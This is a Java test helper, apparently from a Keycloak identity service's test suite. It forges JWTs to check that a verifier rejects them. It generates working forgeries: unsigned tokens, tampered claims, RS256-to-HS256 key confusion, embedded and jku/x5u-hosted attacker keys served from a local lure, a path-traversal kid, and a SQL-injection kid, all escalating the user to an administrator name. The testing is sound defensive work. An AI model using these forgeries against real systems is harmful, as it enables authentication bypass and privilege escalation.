package vn.danvan.identity.keycloak;

import com.nimbusds.jose.JOSEException;
import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.JWSHeader;
import com.nimbusds.jose.crypto.MACSigner;
import com.nimbusds.jose.crypto.RSASSASigner;
import com.nimbusds.jose.jwk.JWKSet;
import com.nimbusds.jose.jwk.RSAKey;
import com.nimbusds.jose.jwk.gen.RSAKeyGenerator;
import com.nimbusds.jwt.JWTClaimsSet;
import com.nimbusds.jwt.PlainJWT;
import com.nimbusds.jwt.SignedJWT;
import com.sun.net.httpserver.HttpServer;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import org.springframework.web.client.RestClient;

/** Knows a real token and the realm's public key, has a key of its own, and lures the verifier to it. */
final class Forger {

    private final SignedJWT real;
    private final JWTClaimsSet claims;
    private final RSAKey own;
    private final AtomicInteger visits = new AtomicInteger();
    private final String lure;
    private final String issuer;

    Forger(String token, String issuer) throws Exception {
        this.real = SignedJWT.parse(token);
        this.issuer = issuer;
        this.claims = new JWTClaimsSet.Builder(real.getJWTClaimsSet())
                .issuer(issuer)
                .claim("preferred_username", "quantri")
                .build();
        this.own = new RSAKeyGenerator(2048).keyID("ours").generate();
        HttpServer server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        byte[] keys = new JWKSet(own.toPublicJWK()).toString().getBytes(StandardCharsets.UTF_8);
        server.createContext("/", exchange -> {
            visits.incrementAndGet();
            exchange.sendResponseHeaders(200, keys.length);
            exchange.getResponseBody().write(keys);
            exchange.close();
        });
        server.start();
        this.lure = "http://127.0.0.1:" + server.getAddress().getPort() + "/keys";
    }

    /** Every forgery by its name. */
    Map<String, String> all() throws Exception {
        Map<String, String> all = new LinkedHashMap<>();
        all.put("no signature", new PlainJWT(claims).serialize());
        all.put("claims changed", changed());
        all.put("public key as shared secret", asSharedSecret());
        all.put("key of its own", withKeyOfItsOwn());
        all.put("key in the header", signed(header().jwk(own.toPublicJWK())));
        all.put("address of keys in the header", signed(header().jwkURL(URI.create(lure))));
        all.put("address of a certificate in the header", signed(header().x509CertURL(URI.create(lure))));
        all.put("the realm's key named", signed(header().keyID(real.getHeader().getKeyID())));
        all.put("a path as key", signed(header().keyID("../../../../dev/null")));
        all.put("a query as key", signed(header().keyID("' or 1=1 --")));
        return all;
    }

    boolean visited() {
        return visits.get() > 0;
    }

    String withKeyOfItsOwn() throws JOSEException {
        return signed(header().keyID("ours"));
    }

    /** No token at all: it names no issuer, and so no province reads of it. */
    String withoutSignature() {
        return real.serialize().replaceFirst("[^.]*$", "");
    }

    static String challenge(String verifier) {
        try {
            return Base64.getUrlEncoder()
                    .withoutPadding()
                    .encodeToString(
                            MessageDigest.getInstance("SHA-256").digest(verifier.getBytes(StandardCharsets.US_ASCII)));
        } catch (java.security.NoSuchAlgorithmException impossible) {
            throw new IllegalStateException(impossible);
        }
    }

    private static JWSHeader.Builder header() {
        return new JWSHeader.Builder(JWSAlgorithm.RS256).type(com.nimbusds.jose.JOSEObjectType.JWT);
    }

    private String signed(JWSHeader.Builder header) throws JOSEException {
        SignedJWT token = new SignedJWT(header.build(), claims);
        token.sign(new RSASSASigner(own));
        return token.serialize();
    }

    private String changed() {
        String[] parts = real.serialize().split("\\.");
        String payload = Base64.getUrlEncoder()
                .withoutPadding()
                .encodeToString(claims.toString().getBytes(StandardCharsets.UTF_8));
        return parts[0] + "." + payload + "." + parts[2];
    }

    private String asSharedSecret() throws Exception {
        String published = RestClient.create()
                .get()
                .uri(issuer + "/protocol/openid-connect/certs")
                .retrieve()
                .body(String.class);
        RSAKey known = JWKSet.parse(published)
                .getKeyByKeyId(real.getHeader().getKeyID())
                .toRSAKey();
        SignedJWT token = new SignedJWT(
                new JWSHeader.Builder(JWSAlgorithm.HS256)
                        .keyID(known.getKeyID())
                        .build(),
                claims);
        token.sign(new MACSigner(known.toRSAPublicKey().getEncoded()));
        return token.serialize();
    }
}
